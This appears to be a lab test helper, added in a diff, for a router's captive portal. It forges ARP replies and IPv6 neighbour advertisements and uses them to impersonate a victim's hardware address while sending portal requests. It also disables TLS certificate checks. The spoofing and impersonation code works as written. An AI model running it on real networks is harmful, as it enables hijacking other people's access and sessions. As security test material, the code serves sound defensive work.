@@ -1,0 +1,129 @@
+"""A stranger on the people's link who writes the router's neighbour table, and asks the portal by http or https."""
+
+import contextlib
+import re
+import socket
+import ssl
+import struct
+import time
+from dataclasses import dataclass
+from urllib.parse import urlencode
+
+from tests.kernel.frames import _pseudo, checksum, octets, raw_socket
+from tests.lab.netns import Namespace
+
+PORTAL_HOST = "login.procomu.lan"
+FAMILIES = (socket.AF_INET, socket.AF_INET6)
+ARP_LOCK = "net__ipv4__neigh__br-lan__locktime"
+"""Linux takes no other hardware address for an IPv4 address that changed less than a second ago: 0 saves the wait."""
+CACHED_S, ANSWERED_S = 0.6, 0.1
+ANSWER_S, TRIES = 6.0, 3
+"""With what TCP sends again: at first the answer goes to the hardware address that was claimed."""
+ETH_P_ARP, ETH_P_IPV6 = 0x0806, 0x86DD
+
+
+def forged_arp(sender: str, address: str, claimed: str, to_mac: str, to_address: str) -> bytes:
+    """One ARP reply (RFC 826): `address` is at `claimed`, from the true hardware address `sender`."""
+    body = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + octets(claimed) + socket.inet_aton(address)
+    body += octets(to_mac) + socket.inet_aton(to_address)
+    return octets(to_mac) + octets(sender) + struct.pack("!H", ETH_P_ARP) + body
+
+
+def forged_advertisement(sender: str, address: str, claimed: str, to_mac: str, to_address: str) -> bytes:
+    """One neighbour advertisement (RFC 4861 section 4.4), solicited and overriding."""
+    target = socket.inet_pton(socket.AF_INET6, address)
+    head = struct.pack("!BBHI", 136, 0, 0, 0x6000_0000) + target + b"\x02\x01" + octets(claimed)
+    total = checksum(_pseudo(address, to_address, 58, len(head)) + head)
+    packet = struct.pack("!IHBB", 6 << 28, len(head), 58, 255) + target
+    packet += socket.inet_pton(socket.AF_INET6, to_address) + head[:2] + struct.pack("!H", total) + head[4:]
+    return octets(to_mac) + octets(sender) + struct.pack("!H", ETH_P_IPV6) + packet
+
+
+@dataclass
+class Answer:
+    """What came back; status 0 for nothing."""
+
+    status: int
+    body: str
+
+    def form(self, action: str, **typed: str) -> str:
+        """The body of the form for `action`, with its hidden fields."""
+        found = re.search(rf'action="{action}">(.*?)</form>', self.body, re.DOTALL)
+        assert found, f"no form for {action}"
+        return urlencode(dict(re.findall(r'type="hidden" name="(\w+)" value="([^"]*)"', found[1])) | typed)
+
+
+@dataclass
+class Device:
+    """A person's device with one address of each family; `secure` asks by https."""
+
+    place: Namespace
+    mac: str
+    addresses: tuple[str, str]
+    router_mac: str
+    router: tuple[str, str]
+
+    def claim(self, address: str, mac: str) -> None:
+        """Tells the router that `address` is at `mac`."""
+        way = int(":" in address)
+        make = (forged_arp, forged_advertisement)[way]
+        with self.place.entered(), contextlib.closing(raw_socket("eth0")) as wire:
+            wire.send(make(self.mac, address, mac, self.router_mac, self.router[way]))
+
+    def connect(self, way: int, *, secure: bool = False) -> socket.socket:
+        with self.place.entered():
+            sock = socket.socket(FAMILIES[way])
+        try:
+            sock.settimeout(ANSWER_S)
+            sock.bind((self.addresses[way], 0))
+            sock.connect((self.router[way], 443 if secure else 80))
+            if not secure:
+                return sock
+            context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+            context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
+            return context.wrap_socket(sock, server_hostname=PORTAL_HOST)
+        except OSError:
+            sock.close()
+            raise
+
+    def ask(self, way: int, path: str = "/", form: str | None = None, *, secure: bool = False) -> Answer:
+        with contextlib.closing(self.connect(way, secure=secure)) as sock:
+            sock.sendall(request(path, form))
+            return heard(sock)
+
+    def ask_as(
+        self, victim: str, way: int, path: str, form: str | None = None, *, secure: bool = False
+    ) -> Answer:
+        """Connects under its own name, then claims to be at the victim's hardware address while it is asked who this
+        is, and is at its own again when TCP repeats the answer."""
+        own, answer = self.addresses[way], Answer(0, "")
+        for _ in range(TRIES):
+            with contextlib.closing(self.connect(way, secure=secure)) as sock:
+                self.claim(own, victim)
+                time.sleep(CACHED_S)
+                sock.sendall(request(path, form))
+                time.sleep(ANSWERED_S)
+                self.claim(own, self.mac)
+                answer = heard(sock)
+            if answer.status:
+                break
+        return answer
+
+
+def request(path: str, form: str | None) -> bytes:
+    head = (
+        f"{'GET' if form is None else 'POST'} {path} HTTP/1.1\r\nHost: {PORTAL_HOST}\r\nConnection: close\r\n"
+    )
+    if form is not None:
+        head += f"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {len(form)}\r\n"
+    return (head + "\r\n" + (form or "")).encode()
+
+
+def heard(sock: socket.socket) -> Answer:
+    raw = b""
+    with contextlib.suppress(OSError):
+        while chunk := sock.recv(65_536):
+            raw += chunk
+    head, _, body = raw.decode(errors="replace").partition("\r\n\r\n")
+    words = head.split(maxsplit=2)
+    return Answer(int(words[1]) if len(words) > 1 else 0, body)
